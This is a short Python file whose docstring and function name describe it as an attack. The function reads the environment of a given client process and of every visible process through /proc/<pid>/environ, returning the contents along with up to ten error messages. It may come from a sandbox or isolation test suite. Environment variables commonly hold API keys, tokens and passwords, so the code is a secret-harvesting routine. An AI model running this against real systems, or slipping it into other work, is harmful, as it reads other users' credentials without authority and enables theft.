"""Read the environment of every process that can be seen, and of the client."""

import os


def attack(pid):
    found, errors = [], []
    for name in [str(pid), *filter(str.isdigit, os.listdir("/proc"))]:
        try:
            with open(f"/proc/{name}/environ", "rb") as file:
                found.append(file.read().decode("utf-8", "replace"))
        except OSError as error:
            errors.append(str(error))
    return [found, errors[:10]]
